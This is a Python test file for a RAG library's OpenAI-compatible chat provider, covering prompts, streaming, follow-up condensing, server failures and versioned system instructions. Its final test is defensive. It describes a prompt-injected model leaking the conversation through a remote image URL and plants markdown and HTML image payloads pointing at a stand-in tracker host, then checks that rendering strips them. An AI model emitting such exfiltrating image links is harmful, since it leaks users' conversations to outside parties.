"""The `openai` provider against a local OpenAI-compatible server: prompts, streaming, failures, instructions."""

from __future__ import annotations

import os

import pytest

from rag_core.chat.prompts import CONDENSE_SYSTEM
from rag_core.errors import ConfigError, LLMError


def _roles(wb, session_id: str) -> list[str]:
    return [m["role"] for m in wb.chat_history(session_id, 50)]


def test_answer_prompt_carries_context_and_streaming_matches(llm_wb, llm_server, docs_site, session_id) -> None:
    question = "Where is hybrid search implemented?"
    plain = llm_wb.chat(question, session_id=session_id, site_id=docs_site)
    body = llm_server.requests[-1]
    assert body["model"] == "test-model" and not body.get("stream")
    system = body["messages"][0]
    assert system["role"] == "system"
    assert "--- Reference 1 ---\nSource: docs/search.md\n" in system["content"]
    assert body["messages"][-1] == {"role": "user", "content": question}
    assert plain.answer == f"Answer to: {question} [1]. It uses several words so streaming has pieces."
    assert plain.sources[0].source == "docs/search.md"

    pieces: list[str] = []
    streamed = llm_wb.chat(question, session_id=session_id + "-stream", site_id=docs_site, on_token=pieces.append)
    llm_wb.chat_reset(session_id + "-stream")
    assert llm_server.requests[-1]["stream"] is True
    assert len(pieces) > 3
    assert "".join(pieces).strip() == streamed.answer == plain.answer


def test_follow_up_is_condensed_with_the_history(llm_wb, llm_server, docs_site, session_id) -> None:
    first = llm_wb.chat("What is hybrid search?", session_id=session_id, site_id=docs_site)
    llm_server.requests.clear()
    second = llm_wb.chat("And where is it implemented?", session_id=session_id, site_id=docs_site)

    condense, answer = llm_server.requests
    assert condense["messages"][0]["content"] == CONDENSE_SYSTEM
    assert "User: What is hybrid search?" in condense["messages"][1]["content"]
    assert second.retrieval_query == "What is hybrid search? And where is it implemented?"
    assert second.sources[0].source == "docs/search.md"
    assert [m["role"] for m in answer["messages"]] == ["system", "user", "assistant", "user"]
    assert answer["messages"][2]["content"] == first.answer


def test_server_error_raises_llm_error_and_keeps_the_question(llm_wb, llm_server, docs_site, session_id) -> None:
    llm_server.fail_status = 500
    with pytest.raises(LLMError) as err:
        llm_wb.chat("Where is hybrid search implemented?", session_id=session_id, site_id=docs_site)
    message = err.value.message
    assert llm_server.base_url in message and "test-model" in message and "HTTP 500" in message
    assert "RAG_LLM=extractive" in message
    assert _roles(llm_wb, session_id) == ["user"]


def test_timeout_raises_llm_error_and_keeps_the_question(llm_wb, llm_server, docs_site, session_id) -> None:
    impatient = llm_wb.variant(llm_timeout_sec=0.3)
    llm_server.delay = 1.0
    with pytest.raises(LLMError, match=r"did not answer within 0\.3 s.*RAG_LLM_TIMEOUT_SEC"):
        impatient.chat("Where is hybrid search implemented?", session_id=session_id, site_id=docs_site)
    assert _roles(llm_wb, session_id) == ["user"]


def test_unreachable_server_names_the_fix(wb, docs_site, session_id) -> None:
    down = wb.variant(llm="openai", llm_base_url="http://127.0.0.1:9/v1", llm_model="m", llm_timeout_sec=2.0)
    with pytest.raises(LLMError, match=r"Cannot reach the chat server at http://127\.0\.0\.1:9/v1.*RAG_LLM_BASE_URL"):
        down.chat("Where is hybrid search implemented?", session_id=session_id, site_id=docs_site)


def test_instruction_versions_become_the_system_prompt(llm_wb, llm_server, docs_site, session_id) -> None:
    v1 = llm_wb.create_instruction(docs_site, "Support Chatbot", "You are Support Bot v1.")
    v2 = llm_wb.update_instruction(docs_site, "Support Chatbot", "You are Support Bot v2; be brief.")
    assert (v1["version"], v2["version"]) == (1, 2)
    versions = llm_wb.list_instructions(docs_site, "Support Chatbot", all_versions=True)
    assert [(i["version"], i["is_active"]) for i in versions] == [(2, True), (1, False)]
    assert llm_wb.get_active_instruction(docs_site)["instruction_text"] == "You are Support Bot v2; be brief."

    llm_wb.chat("Where is hybrid search implemented?", session_id=session_id, site_id=docs_site)
    system = llm_server.requests[-1]["messages"][0]["content"]
    assert system.startswith("You are Support Bot v2; be brief.") and "v1" not in system

    llm_wb.create_instruction(docs_site, "Sales Agent", "You are the Sales Agent.")
    llm_wb.chat("Where is hybrid search implemented?", session_id=session_id, site_id=docs_site)
    assert llm_server.requests[-1]["messages"][0]["content"].startswith("You are the Sales Agent.")
    llm_wb.chat("Where is hybrid search implemented?", session_id=session_id, site_id=docs_site,
                resource_name="Support Chatbot")
    assert llm_server.requests[-1]["messages"][0]["content"].startswith("You are Support Bot v2")

    llm_wb.activate_instruction(docs_site, "Support Chatbot", 1)
    assert llm_wb.get_active_instruction(docs_site, "Support Chatbot")["version"] == 1
    assert llm_wb.delete_instruction(docs_site, "Support Chatbot", version=1) == 1
    assert llm_wb.get_active_instruction(docs_site, "Support Chatbot")["version"] == 2  # newest left takes over
    assert llm_wb.delete_instruction(docs_site, "Support Chatbot") == 1
    assert [i["resource_name"] for i in llm_wb.list_instructions(docs_site)] == ["Sales Agent"]
    llm_wb.delete_instruction(docs_site, "Sales Agent")
    assert llm_wb.get_active_instruction(docs_site) is None


def test_llamacpp_refuses_a_path_that_is_not_a_gguf_file(tmp_path) -> None:
    """The GGUF run itself takes minutes on this CPU; it was checked by hand with SmolLM2 (see the README)."""
    from rag_core.errors import ConfigError
    from rag_core.chat.llms import build_llm
    from rag_core.settings import load_settings

    for bad in ("", str(tmp_path / "missing.gguf"), str(tmp_path)):
        with pytest.raises(ConfigError, match="RAG_LLM_MODEL"):
            build_llm(load_settings(_env_file=None, llm="llamacpp", llm_model=bad))


def test_an_unknown_llm_stops_the_turn_before_the_question_is_stored(wb, docs_site, session_id) -> None:
    """RAG_LLM=gpt4 answered `rag chat "hello"` with the CONFIG_ERROR, and left "hello" in the session as a
    question without an answer, which the next turn then folded into its search. A setting that cannot
    work is refused before anything is written; a failing server still keeps the question (above)."""
    misconfigured = wb.variant(llm="gpt4")
    with pytest.raises(ConfigError, match="Unknown LLM 'gpt4'"):
        misconfigured.chat("Where is hybrid search implemented?", session_id=session_id, site_id=docs_site)
    assert _roles(wb, session_id) == []


def test_a_turns_markdown_loads_nothing_the_model_wrote(llm_wb, llm_server, docs_site, session_id) -> None:
    # A prompt-injected model can answer with a remote image that carries the conversation in its URL; Jupyter
    # renders a turn's markdown with raw HTML on, so both forms would load it as soon as the turn is shown.
    from markdown_it import MarkdownIt
    from notebook_display import shown

    pixel = "https://tracker.example/p.png?leak=hybrid"
    llm_server.reply = lambda body: (f"See [1] ![chart]({pixel}) and <img src=\"{pixel}\"> "
                                     "with **bold** and [the docs](https://docs.example/search).")
    turn = llm_wb.chat("Where is hybrid search implemented?", session_id=session_id, site_id=docs_site)

    assert pixel in turn.answer  # the stored answer is the model's own text
    html = MarkdownIt("commonmark", {"html": True}).render(shown(turn, "text/markdown"))
    assert "<img" not in html and 'src="https://tracker' not in html, html
    assert "<strong>bold</strong>" in html and '<a href="https://docs.example/search">the docs</a>' in html
    assert "docs/search.md" in html  # the sources block is still there
